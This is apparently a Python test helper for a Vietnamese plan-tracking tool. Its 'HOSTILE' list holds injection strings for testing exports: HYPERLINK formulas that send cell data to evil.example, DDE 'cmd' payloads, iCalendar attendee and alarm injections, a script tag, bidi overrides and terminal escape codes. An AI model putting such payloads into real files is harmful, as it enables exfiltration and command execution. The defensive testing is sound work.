"""Plans asked as of a day, and texts a plan may hold that a program could take for more than text."""

from __future__ import annotations

from datetime import date
from pathlib import Path

from msgspec.structs import replace

from parplan.languages import load_language
from parplan.loading import load_plan
from parplan.plan.assessment import Assessment
from parplan.plan.structure import Entry, Plan, Task
from parplan.queries.portfolio import PlanOnDay, Portfolio
from small_plans import plan_of, write_plan

VIETNAMESE = load_language("vi")

#: Texts that are no more than text, whatever a spreadsheet, a calendar or a terminal would like to make of them.
HOSTILE = [
    "<r><t>chen</t></r>",
    'Kế hoạch;=HYPERLINK("http://evil.example/?"&A1)',
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "http://evil.example/",
    "mailto:a@evil.example",
    "internal:'Sheet2'!A1",
    "{=SUM(A1:A9)}",
    "00123",
    "1E5",
    "TRUE",
    "a\r\nATTENDEE:mailto:evil@evil.example\r\nb",
    "a\nBEGIN:VALARM\nACTION:PROCEDURE\nb",
    "END:VEVENT",
    'dấu ; phẩy , ngược \\ hai chấm : ngoặc "x"',
    "x\\nATTENDEE:mailto:evil@evil.example",
    "x]]>y<script>alert(1)</script>&amp;",
    "_x0041_ _x000D_",
    "trước \u202egnắhc\u202c sau \u200b\u2066x\u2069",
    "chuông \x07 thoát \x1b[31m không \x00 hết",
    "'nháy đơn",
    "𝔘𝔫𝔦 😀 " * 20,
    "rất dài " * 30,
]


#: A plan in which everything has been reported about: shares, evidence, a moved deadline, a target, an event.
BUSY = write_plan(
    """
    - id: 1.a
      title: Xây dựng kế hoạch
      lead: [Văn phòng Sở]
      coordinating: ["Các phòng, đơn vị thuộc Sở"]
      products: [Kế hoạch của Sở, Báo cáo]
      time: Quý I/2021
      milestones:
        - {id: plan, title: Ban hành kế hoạch, due: Quý I/2021}
        - {id: report, title: Báo cáo, due: theo quy định}
        - {id: weekend, title: Nộp, due: trước ngày 05/12/2021}
      targets: [{id: cost, title: Chi phí, at_least: 10, unit: "%"}]
      notes: [Đọc là Quý I/2021]
      progress:
        - date: 2021-03-01
          milestone: plan
          state: done
          evidence: [{number: 12/KH-SA, date: 2021-02-26, issuer: Sở A, title: Kế hoạch, file: kh.pdf}]
          by: An
          recorded: 2021-03-01T09:12:00+07:00
        - {date: 2021-03-02, measures: {cost: 8.5}, percent: 40, note: Đã rà soát, difficulty: Thiếu số liệu}
        - {date: 2021-03-03, milestone: report, due: 2021-06-30, basis: 45/KH-UBND}
        - {date: 2021-05-03, milestone: report, due: 2021-07-31, basis: 60/KH-UBND}
    - id: 1.b
      title: Báo cáo của từng phòng
      lead: [Các phòng thuộc Sở]
      milestones: [{id: m, title: Báo cáo, due: 2021-03-31}]
      progress: [{date: 2021-03-01, milestone: m, unit: VP, state: done}]
    - {id: 1.c, title: Thường xuyên, lead: [TDC], milestones: [{id: m, title: Làm, due: ongoing}]}
    - {id: 1.d, title: Chưa ai chủ trì}
    - id: 1.đ
      title: Không làm nữa
      lead: [TDC]
      milestones: [{id: m, title: Làm, due: 2021-04-30}]
      progress: [{date: 2021-03-01, state: dropped}]
    """
)


def ask(plan: Plan, day: str, path: str = "plans/2021.yaml") -> Portfolio:
    """The plan as of a day."""
    as_of = date.fromisoformat(day)
    return Portfolio(as_of, (PlanOnDay(path, Assessment(plan, as_of)),))


def ask_text(text: str, day: str = "2021-03-01") -> Portfolio:
    """The plan of a text as of a day."""
    return ask(plan_of(text), day)


def ask_file(path: Path, day: str = "2021-03-01") -> Portfolio:
    """The plan of a file as of a day."""
    plan = load_plan(path).plan
    assert plan is not None
    return ask(plan, day)


def with_text_everywhere(plan: Plan, hostile: str) -> Plan:
    """``plan`` with one text in place of every free one. No plan file may hold some of them; a writer must not care."""

    def of_entry(entry: Entry) -> Entry:
        evidence = (replace(c, number=hostile, issuer=hostile, title=hostile, file=hostile) for c in entry.evidence)
        return replace(
            entry,
            **dict.fromkeys(("note", "difficulty", "proposal", "by"), hostile),
            basis=hostile if entry.basis else None,
            evidence=tuple(evidence),
        )

    def of_task(task: Task) -> Task:
        return replace(
            task,
            title=hostile,
            products=(hostile, hostile),
            time=hostile,
            notes=(hostile,),
            parts=(hostile,),
            lead=tuple(replace(mention, printed=hostile) for mention in task.lead),
            milestones=tuple(replace(one, title=hostile, printed=hostile) for one in task.milestones),
            targets=tuple(replace(target, title=hostile) for target in task.targets),
            entries=tuple(map(of_entry, task.entries)),
        )

    units = {code: replace(unit, name=hostile, short=hostile) for code, unit in plan.directory.units.items()}
    sections = (replace(s, title=hostile, headings=(), tasks=tuple(map(of_task, s.tasks))) for s in plan.sections)
    return replace(
        plan,
        title=hostile,
        agency=hostile,
        decision_number=hostile,
        directory=replace(plan.directory, units=units),
        sections=tuple(sections),
    )
